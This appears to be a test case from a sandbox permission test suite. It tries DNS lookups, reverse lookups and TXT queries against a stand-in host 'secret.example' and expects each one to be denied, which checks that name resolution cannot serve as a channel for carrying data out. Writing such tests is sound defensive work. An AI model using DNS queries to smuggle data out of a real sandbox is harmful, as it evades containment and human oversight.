import type { Attack } from '../attack.ts'

export const attack: Attack = {
  name: 'Names asked of the resolver, which carries data out',
  reference: 'https://nodejs.org/api/permissions.html',
  code: `
    const tried = async (acts) => {
      const got = []
      for (const act of acts) try { got.push(await act()) } catch (error) { got.push(error.code ?? error.name) }
      return got
    }
    const dns = require('dns')
    exports.main = () => tried([() => dns.promises.lookup('secret.example'), () => dns.promises.resolve4('secret.example'), () => dns.promises.lookupService('127.0.0.1', 22), () => new dns.promises.Resolver().resolveTxt('secret.example'), () => dns.promises.reverse('127.0.0.1')])`,
  expected: {
    status: 'succeeded',
    value: [
      'ERR_ACCESS_DENIED',
      'ERR_ACCESS_DENIED',
      'ERR_ACCESS_DENIED',
      'ERR_ACCESS_DENIED',
      'ERR_ACCESS_DENIED',
    ],
  },
}
